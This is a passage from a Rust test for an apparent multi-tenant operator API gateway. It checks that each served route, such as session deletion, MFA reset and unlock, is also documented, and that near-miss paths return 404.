        ("GET", "/v1/tenants"),
        ("GET", "/v1/tenants/{tenant}/users"),
        ("GET", "/v1/tenants/{tenant}/users/{user}/sessions"),
        ("DELETE", "/v1/tenants/{tenant}/users/{user}/sessions"),
        ("POST", "/v1/tenants/{tenant}/users/{user}/reset-mfa"),
        ("POST", "/v1/tenants/{tenant}/users/{user}/unlock"),
        ("GET", "/v1/audit"),
        ("POST", "/v1/reload"),
    ];
    for (method, template) in served_routes {
        let path = template
            .replace("{tenant}", "acme")
            .replace("{user}", "bob");
        let resp = operator(&gw, method, &path);
        assert!(
            ![404, 405].contains(&resp.status),
            "{method} {path} is served"
        );
        assert!(
            documented.contains(&(method.to_string(), template.to_string())),
            "{method} {template} is served but not documented"
        );
    }
    assert_eq!(documented.len(), served_routes.len(), "{documented:?}");
    // …and near misses are not served at all.
    for path in [
        "/v1/",
        "/v1/tenant",
        "/v1/tenants/",
        "/v1/tenants/acme",
        "/v1/tenants/acme/users/bob",
        "/v1/tenants/acme/users/bob/disable",
        "/v1/tenants/acme/users/bob/sessions/x",
        "/v1/tenants/acme/sessions",
        "/v1/users",
        "/v1/audit/acme",
        "/v1/reload/now",
        "/v1/openapi.yaml",
        "/v2/tenants",
    ] {
        for method in ["GET", "POST", "DELETE"] {
            let resp = operator(&gw, method, path);
            assert_eq!(resp.status, 404, "{method} {path}: {}", resp.text());
        }
    }
}
